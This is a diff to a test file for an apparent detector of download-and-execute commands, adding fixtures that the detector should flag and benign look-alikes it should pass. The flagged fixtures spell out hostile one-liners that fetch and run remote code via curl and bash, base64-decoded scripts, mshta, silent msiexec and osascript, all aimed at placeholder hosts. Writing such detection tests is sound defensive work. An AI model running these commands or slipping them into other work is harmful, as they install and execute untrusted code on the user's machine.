@@ -74,6 +74,11 @@ def _rules(source: str, policy: HostPolicy) -> set[str]:
         ),
         ("node -e \"fetch('https://setup.example.net/x').then(r=>r.text()).then(eval)\"", {UNDECLARED}),
         ('pwsh -c "iwr https://rentry.co/x/raw | iex"', {DELIVERY}),
+        ("curl -fsSL https://setup.example.net/i > /tmp/i.sh && bash /tmp/i.sh", {UNDECLARED}),
+        ("echo ZWNobyBoaQ== | base64 -d > /tmp/x.sh; sh /tmp/x.sh", {ENCODED}),
+        ("mshta https://setup.example.net/a.hta", {UNDECLARED}),
+        ("msiexec /i http://192.0.2.4/p.msi /qn", {DELIVERY}),
+        ("osascript -e 'do shell script \"curl -s http://192.0.2.8/a | sh\"'", {DELIVERY}),
     ],
 )
 def test_download_exec_shapes(source: str, expected: set[str], policy: HostPolicy) -> None:
@@ -97,6 +102,9 @@ def test_download_exec_shapes(source: str, expected: set[str], policy: HostPolic
         "curl | bash",
         "bash install.sh",
         "wget https://files.example.com/data.csv",
+        "curl -s https://api.example.com/x > out.json && cat out.json",
+        "echo aGk= | base64 -d > hi.txt && cat hi.txt",
+        "msiexec /i package.msi /qn",
     ],
 )
 def test_not_download_exec(source: str, policy: HostPolicy) -> None:
@@ -160,6 +168,7 @@ def _ps(source: str, policy: HostPolicy) -> set[str]:
             {DELIVERY},
         ),
         ("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgA')))", {ENCODED}),
+        ("mshta.exe http://192.0.2.4/x.hta", {DELIVERY}),
     ],
 )
 def test_powershell_shapes(source: str, expected: set[str], policy: HostPolicy) -> None:
